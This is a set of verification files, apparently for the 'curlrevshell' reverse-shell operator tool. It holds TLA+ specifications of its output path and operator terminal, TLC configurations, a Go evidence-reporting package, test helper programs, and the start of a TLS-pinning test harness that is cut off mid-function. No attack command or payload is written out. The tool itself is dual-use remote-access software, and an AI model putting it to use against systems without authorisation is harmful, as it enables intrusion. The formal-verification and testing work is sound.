LeftAtCancel == CASE AfterCancel = "none" -> 0 [] AfterCancel = "queued" -> Len(och) [] OTHER -> -2
MayTake == ~Cancelled \/ left > 0 \/ left = -2
MayReturn == Cancelled /\ (left = 0 \/ och = <<>>)

(* the terminal takes the next item from the operator channel and handles it *)
TakeAndShow ==
  /\ och # <<>> /\ quit = "no" /\ ~tstopped /\ ~Cancelled
  /\ Out!Term
  /\ IF Head(och) = 0
     THEN Op!Status /\ displayed' = Append(displayed, 0)
     ELSE Op!Plain /\ displayed' = IF muted THEN displayed ELSE Append(displayed, Head(och))
  /\ UNCHANGED cvars
(* ... and what it still takes once its context has been cancelled (no key presses, no *)
(* timer any more: the mute state stays as it is)                                      *)
TakeAfterCancel ==
  /\ och # <<>> /\ quit # "returned" /\ ~tstopped /\ Cancelled /\ MayTake
  /\ Out!Term
  /\ displayed' = IF Head(och) # 0 /\ muted THEN displayed ELSE Append(displayed, Head(och))
  /\ left' = IF left > 0 THEN left - 1 ELSE left
  /\ shownAfter' = shownAfter + 1
  /\ UNCHANGED <<tvars, quit, finished, tstopped, queuedAt>>

B(A) == A /\ UNCHANGED <<tvars, displayed, cvars>>
BrokerStep == B(Out!Reader \/ Out!Forwarder \/ Out!Cancel \/ Out!CloseTransport)
OperatorStep == /\ quit = "no" /\ (Op!CtrlO \/ Op!TimerFire \/ Op!Tick)
                /\ UNCHANGED <<ovars, displayed, cvars>>

(* Ctrl+C / Ctrl+D: ReadLine returns, the shell's own context is cancelled; the output path of *)
(* the broker goes on until main has cancelled everything                                      *)
QuitKey ==
  /\ quit = "no" /\ ~finished /\ quit' = "key"
  /\ left' = LeftAtCancel /\ queuedAt' = Len(och) /\ shownAfter' = 0
  /\ UNCHANGED <<ovars, tvars, displayed, finished, tstopped>>
(* the output goroutine returns, so Shell.Do returns, so main's error group cancels the rest *)
TermReturn ==
  /\ quit = "key" /\ MayReturn /\ quit' = "returned"
  /\ IF ctxDone THEN UNCHANGED ovars ELSE Out!Cancel
  /\ UNCHANGED <<tvars, displayed, finished, tstopped, left, queuedAt, shownAfter>>

(* repaired design: what arrives on the operator channel after the shell has returned is thrown away *)
Discard ==
  /\ quit = "returned" /\ DrainAfterQuit /\ och # <<>>
  /\ och' = Tail(och)
  /\ UNCHANGED <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, ctxDone, closed, nread,
                 sent, shown, fwd, dropped, logd, selfEnd, tvars, displayed, cvars>>

(* -one-shell: the output path is done (its notice is on the channel), the server finishes and *)
(* every context is cancelled, the output goroutine's included                                 *)
Finish ==
  /\ quit = "no" /\ ~finished /\ fpc = "done" /\ finished' = TRUE
  /\ left' = LeftAtCancel /\ queuedAt' = Len(och) /\ shownAfter' = 0
  /\ UNCHANGED <<ovars, tvars, displayed, quit, tstopped>>
(* the terminal's output goroutine returns *)
TermStop ==
  /\ finished /\ ~tstopped /\ MayReturn
  /\ tstopped' = TRUE
  /\ UNCHANGED <<ovars, tvars, displayed, quit, finished, left, queuedAt, shownAfter>>

Next == TakeAndShow \/ TakeAfterCancel \/ BrokerStep \/ OperatorStep \/ QuitKey \/ TermReturn \/ Discard \/ Finish \/ TermStop
Spec == Init /\ [][Next]_vars
Fair ==
  /\ WF_vars(B(Out!RLoop)) /\ WF_vars(B(Out!RSend)) /\ WF_vars(B(Out!RSendCtx)) /\ WF_vars(B(Out!RExit))
  /\ WF_vars(B(closed /\ \E d, e \in BOOLEAN : Out!RRead(d, e)))
  /\ WF_vars(B(Out!FTake)) /\ WF_vars(B(Out!FClosed)) /\ WF_vars(B(Out!FCtx)) /\ WF_vars(B(Out!FFwd))
  /\ WF_vars(B(Out!FLog)) /\ WF_vars(B(Out!FDrop)) /\ WF_vars(B(Out!FNotice)) /\ WF_vars(B(Out!FRelease))
  /\ WF_vars(B(fpc = "done" /\ Out!CloseTransport))
  /\ WF_vars(Discard) /\ WF_vars(TermReturn) /\ WF_vars(TermStop) /\ WF_vars(TakeAfterCancel)
FairSpec == Spec /\ Fair

Data(s) == SelectSeq(s, LAMBDA x : x # 0)
RECURSIVE IsSubseq(_, _)
IsSubseq(a, b) == IF a = <<>> THEN TRUE
                  ELSE IF b = <<>> THEN FALSE
                  ELSE IF Head(a) = Head(b) THEN IsSubseq(Tail(a), Tail(b))
                  ELSE IsSubseq(a, Tail(b))

(* end-to-end C03 + C19 *)
DisplayedIsPartOfSent == IsSubseq(Data(displayed), sent)
NothingLostWithoutCtrlO == ~everO => Data(displayed) = Data(shown)
NoticesAlwaysDisplayed == Len(SelectSeq(displayed, LAMBDA x : x = 0)) = Len(SelectSeq(shown, LAMBDA x : x = 0))
UnmutedAndUncancelledLosesNothing ==
  (~everO /\ ~ctxDone /\ fpc = "done" /\ och = <<>>) => Data(displayed) = sent
(* C20 / C04: once the operator has ended the program the output path finishes, however *)
(* full the operator channel was                                                        *)
EndsAfterQuit == (quit # "no") ~> (fpc = "done")
(* ... and the output goroutine does not go on showing what arrives after it was told to stop: *)
(* with a shell that floods the terminal it would never return (C20)                          *)
BoundedAfterCancel == shownAfter <= queuedAt

(* C04 with -one-shell: the closing notices of the last shell are shown although the    *)
(* program is on its way out (unless the operator has ended it himself)                 *)
NoticeShownAtCompletion == (tstopped /\ quit = "no") => och = <<>>

(* the terminal never waits for the broker: it can always take what is there *)
TerminalIndependent == (quit = "no" /\ ~Cancelled /\ ~tstopped /\ och # <<>> /\ nev < MaxEvents /\ inTick < MaxPerTick /\ ~Op!Due /\ firedAt # now /\ ~(muted /\ deadline = now)) => ENABLED TakeAndShow
=============================================================================
