--------------------------- MODULE Curlrevshell ---------------------------
(***************************************************************************)
(* Composition of the output path with the operator's terminal: what the   *)
(* shell sends travels through Broker.proxyOut (BrokerOut) onto the        *)
(* operator channel, and the terminal (Opshell) takes it from there,       *)
(* subject to the Ctrl+O mute.  The coupling is the channel: the step in   *)
(* which the terminal takes an item (BrokerOut!Term) is the step in which  *)
(* lib/opshell handles a CLine (Opshell!Plain for shell output,            *)
(* Opshell!Status for the close notice).                                   *)
(*                                                                         *)
(* This states the cross-module assumption the per-module checks rely on   *)
(* (the terminal drains the operator channel independently of the broker)  *)
(* and the end-to-end form of C03 + C19: what is displayed is, in order,   *)
(* a part of what was sent; nothing is lost unless Ctrl+O was pressed or   *)
(* the stream was cancelled; notices are always displayed.                 *)
(***************************************************************************)
EXTENDS Naturals, Sequences, FiniteSets, SequencesExt, TLC

CONSTANTS NChunks, QCap, OchCap, Pause, MaxT, MaxEvents, MaxPerTick

VARIABLES
  \* BrokerOut
  rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, nread,
  sent, shown, fwd, dropped, logd, selfEnd,
  \* Opshell
  now, muted, deadline, everO, nev, inTick, lastShown, firedAt, act,
  \* composition history
  displayed     \* what reached the terminal's screen: chunk numbers, 0 = notice

ovars == <<rpc, rpend, rerr, fpc, hold, endedBy, q, qclosed, och, ctxDone, closed, nread,
           sent, shown, fwd, dropped, logd, selfEnd>>
tvars == <<now, muted, deadline, everO, nev, inTick, lastShown, firedAt, act>>
vars == <<ovars, tvars, displayed>>

Out == INSTANCE BrokerOut WITH ReaderSelectsCtx <- TRUE, MayOmitNotice <- FALSE
Op  == INSTANCE Opshell WITH Emit <- FALSE

Init == Out!Init /\ Op!Init /\ displayed = <<>>

(* the terminal takes the next item from the operator channel and handles it *)
TakeAndShow ==
  /\ och # <<>>
  /\ Out!Term
  /\ IF Head(och) = 0
     THEN Op!Status /\ displayed' = Append(displayed, 0)
     ELSE Op!Plain /\ displayed' = IF muted THEN displayed ELSE Append(displayed, Head(och))

BrokerStep == /\ (Out!Reader \/ Out!Forwarder \/ Out!Cancel \/ Out!CloseTransport)
              /\ UNCHANGED <<tvars, displayed>>
OperatorStep == /\ (Op!CtrlO \/ Op!TimerFire \/ Op!Tick)
                /\ UNCHANGED <<ovars, displayed>>

Next == TakeAndShow \/ BrokerStep \/ OperatorStep
Spec == Init /\ [][Next]_vars

Data(s) == SelectSeq(s, LAMBDA x : x # 0)
RECURSIVE IsSubseq(_, _)
IsSubseq(a, b) == IF a = <<>> THEN TRUE
                  ELSE IF b = <<>> THEN FALSE
                  ELSE IF Head(a) = Head(b) THEN IsSubseq(Tail(a), Tail(b))
                  ELSE IsSubseq(a, Tail(b))

(* end-to-end C03 + C19 *)
DisplayedIsPartOfSent == IsSubseq(Data(displayed), sent)
NothingLostWithoutCtrlO == ~everO => Data(displayed) = Data(shown)
NoticesAlwaysDisplayed == Len(SelectSeq(displayed, LAMBDA x : x = 0)) = Len(SelectSeq(shown, LAMBDA x : x = 0))
UnmutedAndUncancelledLosesNothing ==
  (~everO /\ ~ctxDone /\ fpc = "done" /\ och = <<>>) => Data(displayed) = sent
(* the terminal never waits for the broker: it can always take what is there *)
TerminalIndependent == (och # <<>> /\ nev < MaxEvents /\ inTick < MaxPerTick /\ ~Op!Due /\ firedAt # now /\ ~(muted /\ deadline = now)) => ENABLED TakeAndShow
=============================================================================
