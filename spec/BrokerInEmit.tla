--------------------------- MODULE BrokerInEmit ---------------------------
(* BrokerIn plus an action constraint printing every transition with its   *)
(* environment label (tau for steps of proxyIn the environment does not    *)
(* decide).                                                                *)
EXTENDS BrokerIn, Json

Label ==
  IF nentered' # nentered THEN [n |-> "Enter"]
  ELSE IF ichClosed' # ichClosed THEN [n |-> "CloseIch"]
  ELSE IF nshell' # nshell THEN [n |-> "Attach", k |-> kind']
  ELSE IF ctxDone' # ctxDone THEN [n |-> "Cancel"]
  ELSE IF ipc = "write" /\ ipc' # "write" THEN [n |-> "W", d |-> (ipc' # "ret")]
  ELSE IF ipc = "flush" /\ ipc' # "flush" THEN [n |-> "F", d |-> (ipc' # "ret")]
  ELSE [n |-> "tau"]

Emit == PrintT(<<"EDGE", ToJson([from |-> vars, act |-> Label, to |-> vars'])>>)
=============================================================================
