SPECIFICATION FairSpec
CONSTANTS
  OneShellFlag = TRUE
  MaxPre = 1
  MaxHeld = 1
  Emit = TRUE
INVARIANTS ClosedOnlyAfterFull OpenWhileNotFull NoHelpAfterGone ExitsWithSuccess StaysWhileShellAttached
PROPERTIES ClosesAfterFull ShellUndisturbed ExitsAtNextLine LateShellServed
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
