SPECIFICATION FairSpec
CONSTANTS
  Pause = 4
  MaxT = 10
  MaxEvents = 5
  MaxPerTick = 2
  Emit = TRUE
INVARIANTS NothingDroppedWithoutCtrlO TimerArmedWhileMuted
PROPERTIES MutedDropsOnlyPlain UnmuteOnlyAfterCalm SuppressedPushesTimer AlreadyMutedChangesNothing MuteEndsByItself
ACTION_CONSTRAINT EmitEdge
VIEW View
CHECK_DEADLOCK FALSE
