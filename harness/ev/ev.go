// Package ev writes evidence files, reports violations and known findings and
// fixes the exit-code policy shared by every check.
//
//	exit 0  property held on everything explored
//	exit 1  at least one VIOLATION line was printed (observed on the real code)
//	exit 2  infrastructure problem or inconclusive
package ev

import (
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"sync"
	"time"
)

// Root is where /verif lives.
func Root() string {
	if r := os.Getenv("VERIF_ROOT"); r != "" {
		return r
	}
	return "/verif"
}

// Repo is where the repository lives.
func Repo() string {
	if r := os.Getenv("VERIF_REPO"); r != "" {
		return r
	}
	return "/repo"
}

// Finding is one entry of known-findings.json.
type Finding struct {
	Property string `json:"property"`
	Key      string `json:"key"`    // identifies the specific failing input / history / call site
	Status   string `json:"status"` // "open" or "fixed"
	Commit   string `json:"commit,omitempty"`
	What     string `json:"what"`
}

// Run is one execution of one check.
type Run struct {
	ID    string
	Tier  string
	Seed  int64
	Level string
	start time.Time

	mu          sync.Mutex
	Coverage    map[string]any
	Assumptions []string
	samples     []any
	violations  []violation
	known       map[string]bool
	findings    []Finding
	inconcl     []string
	// ReplayKey, when set, makes this run a replay of one recorded violation:
	// no evidence is written; exit 1 iff a violation with this key shows up again.
	ReplayKey string
}

type violation struct {
	Key    string `json:"key"`
	Detail any    `json:"detail"`
	Replay string `json:"replay"`
}

// Start begins a run.
func Start(id, tier, level string) *Run {
	seed := int64(1)
	if s := os.Getenv("VERIF_SEED"); s != "" {
		if v, err := strconv.ParseInt(s, 10, 64); err == nil {
			seed = v
		}
	}
	r := &Run{ID: id, Tier: tier, Seed: seed, Level: level, start: time.Now(),
		Coverage: map[string]any{}, known: map[string]bool{}}
	b, err := os.ReadFile(filepath.Join(Root(), "known-findings.json"))
	if err == nil {
		var f struct {
			Findings []Finding `json:"findings"`
		}
		if err := json.Unmarshal(b, &f); err != nil {
			fmt.Printf("known-findings.json unreadable: %v\n", err)
			os.Exit(2)
		}
		r.findings = f.Findings
	}
	return r
}

// Sample records one explored case for the evidence file (a few are kept).
func (r *Run) Sample(s any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.samples) < 6 {
		r.samples = append(r.samples, s)
	}
}

// Add adds n to an integer coverage counter.
func (r *Run) Add(key string, n int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	v, _ := r.Coverage[key].(int)
	r.Coverage[key] = v + n
}

// Set sets a coverage key.
func (r *Run) Set(key string, v any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.Coverage[key] = v
}

// Rule appends to the coverage "rule" text.
func (r *Run) Rule(s string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	old, _ := r.Coverage["rule"].(string)
	if old != "" {
		old += " || "
	}
	r.Coverage["rule"] = old + s
}

// Append appends to a coverage text key.
func (r *Run) Append(key, s string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	old, _ := r.Coverage[key].(string)
	if old != "" {
		old += " || "
	}
	r.Coverage[key] = old + s
}

// Get returns an integer coverage counter.
func (r *Run) Get(key string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	v, _ := r.Coverage[key].(int)
	return v
}

// Assume records an assumption.
func (r *Run) Assume(s string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, a := range r.Assumptions {
		if a == s {
			return
		}
	}
	r.Assumptions = append(r.Assumptions, s)
}

// Inconclusive notes an infrastructure problem; the run will exit 2 unless a
// violation was found.
func (r *Run) Inconclusive(format string, a ...any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	m := fmt.Sprintf(format, a...)
	fmt.Printf("INCONCLUSIVE: property=%s %s\n", r.ID, m)
	r.inconcl = append(r.inconcl, m)
}

// Violation reports a violation observed on the real code.  key names the
// specific failing input / history class; if known-findings.json lists it as
// open it is printed as KNOWN-FINDING and does not fail the run.  Only the
// first violation per key is reported.
func (r *Run) Violation(key string, detail any) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.known[key] {
		return
	}
	r.known[key] = true
	for _, f := range r.findings {
		if f.Property == r.ID && f.Key == key && f.Status == "open" {
			fmt.Printf("KNOWN-FINDING: property=%s %s (%s)\n", r.ID, key, f.What)
			return
		}
	}
	h := sha256.Sum256([]byte(key))
	name := fmt.Sprintf("%s-%x.json", r.ID, h[:6])
	dir := filepath.Join(Root(), "replays")
	os.MkdirAll(dir, 0o755)
	path := filepath.Join(dir, name)
	b, _ := json.MarshalIndent(map[string]any{
		"property": r.ID, "key": key, "tier": r.Tier, "seed": r.Seed, "detail": detail,
	}, "", " ")
	if r.ReplayKey == "" {
		os.WriteFile(path, b, 0o644)
	}
	r.violations = append(r.violations, violation{Key: key, Detail: detail, Replay: path})
	fmt.Printf("VIOLATION property=%s replay=%s\n", r.ID, path)
	fmt.Printf("  what: %s\n", key)
}

// NViolations returns the number of (unknown) violations so far.
func (r *Run) NViolations() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.violations)
}

// Finish writes the evidence file and exits.
func (r *Run) Finish() {
	r.mu.Lock()
	cov := r.Coverage
	if len(r.samples) > 0 {
		cov["samples"] = r.samples
	}
	keys := []string{}
	for _, v := range r.violations {
		keys = append(keys, v.Key)
	}
	sort.Strings(keys)
	if len(keys) > 0 {
		cov["violation_keys"] = keys
	}
	if len(r.inconcl) > 0 {
		cov["inconclusive"] = r.inconcl
	}
	evd := map[string]any{
		"property_id": r.ID,
		"tier":        r.Tier,
		"seed":        r.Seed,
		"level":       r.Level,
		"coverage":    cov,
		"assumptions": r.Assumptions,
		"wall_s":      time.Since(r.start).Seconds(),
		"violations":  len(r.violations),
	}
	if r.Assumptions == nil {
		evd["assumptions"] = []string{}
	}
	nv, ni := len(r.violations), len(r.inconcl)
	if r.ReplayKey != "" {
		hit := false
		for _, v := range r.violations {
			if v.Key == r.ReplayKey {
				hit = true
			}
		}
		r.mu.Unlock()
		if hit {
			fmt.Printf("replay: %s %q reproduced\n", r.ID, r.ReplayKey)
			os.Exit(1)
		}
		fmt.Printf("replay: %s %q did not show up again (%d other violations, %d inconclusive)\n", r.ID, r.ReplayKey, nv, ni)
		os.Exit(0)
	}
	r.mu.Unlock()
	b, _ := json.MarshalIndent(evd, "", " ")
	dir := filepath.Join(Root(), "evidence")
	os.MkdirAll(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, r.ID+".json"), append(b, '\n'), 0o644); err != nil {
		fmt.Printf("cannot write evidence: %v\n", err)
		os.Exit(2)
	}
	fmt.Printf("%s %s seed=%d: violations=%d inconclusive=%d wall=%.1fs\n", r.ID, r.Tier, r.Seed, nv, ni, time.Since(r.start).Seconds())
	switch {
	case nv > 0:
		os.Exit(1)
	case ni > 0:
		os.Exit(2)
	}
	os.Exit(0)
}
