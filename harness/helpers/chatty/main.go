// Command chatty is the child process for the C14 checks: it writes numbered
// records to stdout and stderr, optionally copies its stdin to a file, and
// exits with a chosen status.
package main

import (
	"flag"
	"io"
	"os"
	"time"
)

func main() {
	nout := flag.Int("out", 0, "chunks on stdout")
	nerr := flag.Int("err", 0, "chunks on stderr")
	size := flag.Int("size", 16, "chunk size in bytes")
	code := flag.Int("exit", 0, "exit status")
	stdinLog := flag.String("stdinlog", "", "copy stdin to this file until EOF before exiting")
	delay := flag.Duration("delay", 0, "sleep before exiting")
	inter := flag.Bool("interleave", false, "alternate between the descriptors")
	flag.Parse()
	// every byte identifies its stream (upper / lower case) and its offset
	offs := map[string]int{}
	rec := func(tag string, i int) []byte {
		b := make([]byte, *size)
		base, mul := byte('A'), 7
		if tag == "E" {
			base, mul = 'a', 11
		}
		o := offs[tag]
		for k := range b {
			b[k] = base + byte(((o+k)*mul+(o+k)/26)%26)
		}
		offs[tag] = o + len(b)
		return b
	}
	if *inter {
		for i := 0; i < *nout || i < *nerr; i++ {
			if i < *nout {
				os.Stdout.Write(rec("O", i+1))
			}
			if i < *nerr {
				os.Stderr.Write(rec("E", i+1))
			}
		}
	} else {
		for i := 0; i < *nout; i++ {
			os.Stdout.Write(rec("O", i+1))
		}
		for i := 0; i < *nerr; i++ {
			os.Stderr.Write(rec("E", i+1))
		}
	}
	if *stdinLog != "" {
		f, err := os.Create(*stdinLog)
		if err == nil {
			io.Copy(f, os.Stdin)
			f.Close()
		}
	}
	time.Sleep(*delay)
	os.Exit(*code)
}
