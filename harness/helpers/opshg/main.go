//go:build verif

// Command opshg hosts the real lib/opshell on its controlling terminal with the
// guarded observation points around Shell.wL turned into gates.
//
// Commands on file descriptor 3:
//
//	P text    a chunk of shell output (CLine.Plain)
//	S text    a status line
//	G         from now on every goroutine parks at every observation point
//	R point   let one goroutine pass point (the token is banked if none is there yet)
//	U         stop gating and let every parked goroutine go
//	Q         quit
//
// Notifications on file descriptor 4: "AT point" when a goroutine reaches a
// gated point.  Points reached by handleOutput's own Logf call are reported as
// wlog:lock / wlog:body / wlog:done, those of spawned announcements as log:*.
package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"os"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

func main() {
	var (
		gating atomic.Bool
		mu     sync.Mutex
		gates  = map[string]chan struct{}{}
		note   = os.NewFile(4, "notifications")
		open   = make(chan struct{}) // closed by U: all gates open for good
	)
	gate := func(p string) chan struct{} {
		mu.Lock()
		defer mu.Unlock()
		g, ok := gates[p]
		if !ok {
			g = make(chan struct{}, 1024)
			gates[p] = g
		}
		return g
	}
	// opshell.New starts the silence timer with AfterFunc(0): its function runs once at start-up.
	// Gating must not begin while that run is between two points (it would park holding Shell.wL).
	startupDone := make(chan struct{})
	var startupOnce sync.Once
	opshell.VerifHook = func(point string) {
		if !gating.Load() {
			if point == "timer:done" {
				startupOnce.Do(func() { close(startupDone) })
			}
			return
		}
		if strings.HasPrefix(point, "log:") {
			buf := make([]byte, 4096)
			buf = buf[:runtime.Stack(buf, false)]
			if bytes.Contains(buf, []byte("handleOutput")) {
				point = "w" + point
			}
		}
		g := gate(point)
		mu.Lock()
		fmt.Fprintf(note, "AT %s\n", point)
		mu.Unlock()
		if strings.HasSuffix(point, ":done") {
			return // reported only: nothing is held here any more
		}
		select {
		case <-g:
		case <-open:
		}
	}
	ich := make(chan string, 1024)
	och := make(chan opshell.CLine, 1024)
	sh, cleanup, err := opshell.New(ich, och, "> ", true, func() ([]byte, error) { return []byte("inserted\n"), nil }, "ins")
	if err != nil {
		fmt.Fprintln(os.Stderr, "ERR", err)
		os.Exit(3)
	}
	defer cleanup()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go sh.Do(ctx)
	go func() {
		for range ich {
		}
	}()
	och <- opshell.CLine{Line: "<READY>", Color: opshell.ColorGreen}
	sc := bufio.NewScanner(os.NewFile(3, "commands"))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		l := sc.Text()
		switch {
		case strings.HasPrefix(l, "P "):
			och <- opshell.CLine{Line: strings.ReplaceAll(l[2:], `\n`, "\r\n"), Plain: true}
		case strings.HasPrefix(l, "S "):
			och <- opshell.CLine{Line: l[2:], Color: opshell.ColorGreen}
		case l == "G":
			select {
			case <-startupDone:
			case <-time.After(5 * time.Second):
			}
			gating.Store(true)
			mu.Lock()
			fmt.Fprintf(note, "AT gating\n")
			mu.Unlock()
		case l == "U":
			gating.Store(false)
			close(open)
		case strings.HasPrefix(l, "R "):
			gate(l[2:]) <- struct{}{}
		case l == "Q":
			cleanup()
			os.Exit(0)
		}
	}
	cleanup()
}
