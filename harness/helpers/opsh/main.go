// Command opsh hosts the real lib/opshell on its controlling terminal and
// feeds its output channel from commands read on file descriptor 3:
//
//	P text   a chunk of shell output (CLine.Plain)
//	S text   a status line (green CLine)
//	Q        quit
package main

import (
	"bufio"
	"context"
	"fmt"
	"os"
	"strings"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

func main() {
	ich := make(chan string, 1024)
	och := make(chan opshell.CLine, 1024)
	sh, cleanup, err := opshell.New(ich, och, "> ", true, func() ([]byte, error) { return []byte("inserted\n"), nil }, "ins")
	if err != nil {
		fmt.Fprintln(os.Stderr, "ERR", err)
		os.Exit(3)
	}
	defer cleanup()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go sh.Do(ctx)
	go func() {
		for range ich {
		}
	}()
	och <- opshell.CLine{Line: "<READY>", Color: opshell.ColorGreen}
	sc := bufio.NewScanner(os.NewFile(3, "commands"))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		l := sc.Text()
		switch {
		case strings.HasPrefix(l, "P "):
			och <- opshell.CLine{Line: strings.ReplaceAll(l[2:], `\n`, "\r\n"), Plain: true}
		case strings.HasPrefix(l, "S "):
			och <- opshell.CLine{Line: l[2:], Color: opshell.ColorGreen}
		case l == "Q":
			cleanup()
			os.Exit(0)
		}
	}
	cleanup()
}
