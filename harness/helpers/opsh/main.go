// Command opsh hosts the real lib/opshell on its controlling terminal and
// feeds its output channel from commands read on file descriptor 3:
//
//	P text   a chunk of shell output (CLine.Plain)
//	S text   a status line (green CLine)
//	Q        quit
//
// With OPSH_ICH=1 the entries of the input channel and what the Ctrl+I
// generator returned are reported on file descriptor 4 ("I <base64>",
// "G <n> <base64>") instead of being thrown away.
package main

import (
	"bufio"
	"context"
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/lib/opshell"
)

func main() {
	ich := make(chan string, 1024)
	och := make(chan opshell.CLine, 1024)
	gen := func() ([]byte, error) { return []byte("inserted\n"), nil }
	report := os.Getenv("OPSH_ICH") == "1"
	var note *os.File
	var nmu sync.Mutex
	if report {
		note = os.NewFile(4, "notifications")
		ngen := 0
		gen = func() ([]byte, error) {
			nmu.Lock()
			defer nmu.Unlock()
			ngen++
			// distinct every time; several lines, quotes, a NUL and non-UTF-8 bytes; sizes from tiny to 70 KB
			b := []byte(fmt.Sprintf("payload-%d 'q' \"d\" \\ {\nsecond line of %d\n\x00\xff\xfe tail", ngen, ngen))
			switch ngen % 3 {
			case 1:
				b = append(b, '\n')
			case 2:
				b = append(b, []byte(strings.Repeat("0123456789abcdef\n", 4200))...)
			}
			fmt.Fprintf(note, "G %d %s\n", ngen, base64.StdEncoding.EncodeToString(b))
			return b, nil
		}
	}
	sh, cleanup, err := opshell.New(ich, och, "> ", true, gen, "ins")
	if err != nil {
		fmt.Fprintln(os.Stderr, "ERR", err)
		os.Exit(3)
	}
	defer cleanup()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go sh.Do(ctx)
	go func() {
		for l := range ich {
			if report {
				nmu.Lock()
				fmt.Fprintf(note, "I %s\n", base64.StdEncoding.EncodeToString([]byte(l)))
				nmu.Unlock()
			}
		}
	}()
	och <- opshell.CLine{Line: "<READY>", Color: opshell.ColorGreen}
	sc := bufio.NewScanner(os.NewFile(3, "commands"))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		l := sc.Text()
		switch {
		case strings.HasPrefix(l, "P "):
			och <- opshell.CLine{Line: strings.ReplaceAll(l[2:], `\n`, "\r\n"), Plain: true}
		case strings.HasPrefix(l, "S "):
			och <- opshell.CLine{Line: l[2:], Color: opshell.ColorGreen}
		case l == "Q":
			cleanup()
			os.Exit(0)
		}
	}
	cleanup()
}
