// Package pin runs simpleshell.Go against real TLS servers of the kinds
// Pin.tla distinguishes and reports what happened.
package pin

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"math/big"
	mrand "math/rand"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
)

// CA is a certificate authority.
type CA struct {
	Cert *x509.Certificate
	Key  *ecdsa.PrivateKey
	DER  []byte
}

func newKey() *ecdsa.PrivateKey {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err)
	}
	return k
}

func serial() *big.Int {
	n, _ := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 100))
	return n
}

// NewCA makes a self-signed CA certificate.
func NewCA(name string) *CA {
	k := newKey()
	t := &x509.Certificate{SerialNumber: serial(), Subject: pkix.Name{CommonName: name}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature}
	der, err := x509.CreateCertificate(rand.Reader, t, t, &k.PublicKey, k)
	if err != nil {
		panic(err)
	}
	c, _ := x509.ParseCertificate(der)
	return &CA{Cert: c, Key: k, DER: der}
}

// Leaf issues a server certificate for 127.0.0.1.
func (ca *CA) Leaf() tls.Certificate {
	k := newKey()
	t := &x509.Certificate{SerialNumber: serial(), Subject: pkix.Name{CommonName: "leaf"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}, DNSNames: []string{"localhost"}}
	der, err := x509.CreateCertificate(rand.Reader, t, ca.Cert, &k.PublicKey, ca.Key)
	if err != nil {
		panic(err)
	}
	return tls.Certificate{Certificate: [][]byte{der, ca.DER}, PrivateKey: k}
}

// SelfSigned makes a stand-alone self-signed server certificate.
func SelfSigned() tls.Certificate {
	k := newKey()
	t := &x509.Certificate{SerialNumber: serial(), Subject: pkix.Name{CommonName: "self"}, NotBefore: time.Now().Add(-time.Hour),
		NotAfter: time.Now().Add(24 * time.Hour), KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}}
	der, err := x509.CreateCertificate(rand.Reader, t, t, &k.PublicKey, k)
	if err != nil {
		panic(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: k}
}

// InstallTrust makes ca the only trusted root of this process.  It must be
// called before the first certificate verification of the process.
func InstallTrust(scratch string, ca *CA) error {
	d, err := os.MkdirTemp(scratch, "trust-")
	if err != nil {
		return err
	}
	f := filepath.Join(d, "roots.pem")
	if err := os.WriteFile(f, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca.DER}), 0o644); err != nil {
		return err
	}
	empty := filepath.Join(d, "empty")
	os.Mkdir(empty, 0o755)
	os.Setenv("SSL_CERT_FILE", f)
	os.Setenv("SSL_CERT_DIR", empty)
	return nil
}

// SPKI returns the raw hash of the i-th certificate's public key.
func SPKI(c tls.Certificate, i int) []byte {
	x, err := x509.ParseCertificate(c.Certificate[i])
	if err != nil {
		panic(err)
	}
